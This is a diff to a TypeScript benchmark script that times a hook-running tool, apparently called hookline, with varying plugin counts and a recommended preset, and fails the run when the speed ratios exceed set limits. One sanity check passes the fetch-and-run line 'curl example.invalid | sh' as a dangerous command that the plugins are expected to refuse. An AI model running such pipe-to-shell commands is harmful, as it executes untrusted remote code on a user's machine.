@@ -13,6 +13,9 @@ import { dirname, join } from 'node:path';
 const ROUNDS = Number(process.argv[2] ?? 40);
 const WARM_UP = 3;
 const LIMIT_FIVE = 1.35;
+/** What a team has after the first day: one command judged and saved, and an event that none of its plugins wants. */
+const LIMIT_PRESET = 1.5;
+const LIMIT_NOBODY = 1.2;
 
 const require = createRequire(import.meta.url);
 const packageFolder = (name: string): string => dirname(require.resolve(`${name}/package.json`));
@@ -60,19 +63,48 @@ export default definePlugin({
   );
 }
 
-function hookVariant(plugins: number): Variant {
-  const project = join(root, `project-${plugins}`);
+function projectFolder(name: string, packages: readonly string[]): string {
+  const project = join(root, name);
   mkdirSync(join(project, 'node_modules', '@hookline'), { recursive: true });
   mkdirSync(join(project, '.git'));
-  symlinkSync(packageFolder('@hookline/core'), join(project, 'node_modules', '@hookline', 'core'));
+  for (const one of packages) symlinkSync(packageFolder(one), join(project, 'node_modules', one));
+  return project;
+}
+
+/** As everybody works: what runs has been approved, and is looked at once more when it is imported. */
+const approve = (project: string): void =>
+  void execFileSync(process.execPath, [bin, 'trust', '--yes'], { cwd: project, env: homes, stdio: 'ignore' });
+
+/** `@hookline/preset-recommended` and nothing else. */
+function presetVariants(): readonly Variant[] {
+  const project = projectFolder('preset', ['@hookline/preset-recommended']);
+  writeFileSync(join(project, 'hooks.toml'), '[hooks]\nextends = ["recommended"]\n');
+  approve(project);
+  const common = { copies: 1, env: { ...homes, PATH: process.env['PATH'] } };
+  const args = (event: string): readonly string[] => [bin, 'hook', '--host', 'codex', '--event', event];
+  const silent = (stdout: string): boolean => stdout === '';
+  const compact = JSON.stringify({
+    ...(JSON.parse(payload(project)) as object),
+    hook_event_name: 'PreCompact',
+    trigger: 'manual',
+  });
+  return [
+    { ...common, name: PRESET, args: args('PreToolUse'), input: payload(project), proves: silent },
+    { ...common, name: NOBODY, args: args('PreCompact'), input: compact, proves: silent },
+  ];
+}
+const PRESET = 'preset-recommended, exec.before';
+const NOBODY = 'preset-recommended, unheard';
+
+function hookVariant(plugins: number): Variant {
+  const project = projectFolder(`project-${plugins}`, ['@hookline/core']);
   const names = Array.from({ length: plugins }, (_, index) => `bench-${index}`);
   for (let index = 0; index < plugins; index++) writePlugin(project, index);
   writeFileSync(
     join(project, 'hooks.toml'),
     `[hooks]\nenabled = true\n${names.map((name) => `[plugins.${name}]\n`).join('')}`,
   );
-  // As everybody works: what runs has been approved, and is looked at once more when it is imported.
-  execFileSync(process.execPath, [bin, 'trust', '--yes'], { cwd: project, env: homes, stdio: 'ignore' });
+  approve(project);
   return {
     name: `hookline hook, ${plugins} plugin${plugins === 1 ? '' : 's'}`,
     args: [bin, 'hook', '--host', 'codex', '--event', 'PreToolUse'],
@@ -122,6 +154,7 @@ const bare: Variant = {
 const variants: readonly Variant[] = [
   bare,
   ...[0, 1, 5, 20].map(hookVariant),
+  ...presetVariants(),
   { ...bare, name: 'five separate node hooks', args: [separate], copies: 5, input: payload(root) },
 ];
 
@@ -164,7 +197,7 @@ const quantile = (values: readonly number[], q: number): number =>
 const samples = new Map<Variant, number[]>(variants.map((variant) => [variant, []]));
 try {
   for (const variant of variants) {
-    if (!variant.args.includes('hook')) continue;
+    if (!variant.name.startsWith('hookline hook')) continue;
     // Every plugin really judges: the same event with a dangerous command is refused, wherever there is a plugin.
     const cwd = (JSON.parse(variant.input) as { cwd: string }).cwd;
     const { stdout } = await once(variant, payload(cwd, 'curl example.invalid | sh'));
@@ -193,16 +226,25 @@ const ratioOf = (variant: Variant): number =>
 const write = (text: string): void => void process.stdout.write(`${text}\n`);
 write(`${ROUNDS} rounds, Node ${process.versions.node}; milliseconds of the whole process\n`);
 write(
-  `${'variant'.padEnd(28)} ${'median'.padStart(8)} ${'p95'.padStart(8)} ${'min'.padStart(8)}   times node -e 0`,
+  `${'variant'.padEnd(32)} ${'median'.padStart(8)} ${'p95'.padStart(8)} ${'min'.padStart(8)}   times node -e 0`,
 );
 for (const variant of variants) {
   const values = samples.get(variant) ?? [];
   const cells = [quantile(values, 0.5), quantile(values, 0.95), Math.min(...values)].map((ms) =>
     ms.toFixed(1).padStart(8),
   );
-  write(`${variant.name.padEnd(28)} ${cells.join(' ')}   ${ratioOf(variant).toFixed(2)}`);
+  write(`${variant.name.padEnd(32)} ${cells.join(' ')}   ${ratioOf(variant).toFixed(2)}`);
 }
-const five = variants.find(({ name }) => name.includes(', 5 '));
-const ratio = five ? ratioOf(five) : Number.NaN;
-write(`\none event with 5 plugins: ${ratio.toFixed(2)} times node -e 0 (limit ${LIMIT_FIVE})`);
-process.exitCode = ratio <= LIMIT_FIVE ? 0 : 1;
+const limits = [
+  ['one event with 5 plugins', ', 5 ', LIMIT_FIVE],
+  ['one command with preset-recommended', PRESET, LIMIT_PRESET],
+  ['an event that none of its plugins listens to', NOBODY, LIMIT_NOBODY],
+] as const;
+write('');
+for (const [what, part, limit] of limits) {
+  const variant = variants.find(({ name }) => name.includes(part));
+  const ratio = variant ? ratioOf(variant) : Number.NaN;
+  write(`${what}: ${ratio.toFixed(2)} times node -e 0 (limit ${limit})`);
+  // A ratio that is no number is over every limit.
+  if (!(ratio <= limit)) process.exitCode = 1;
+}
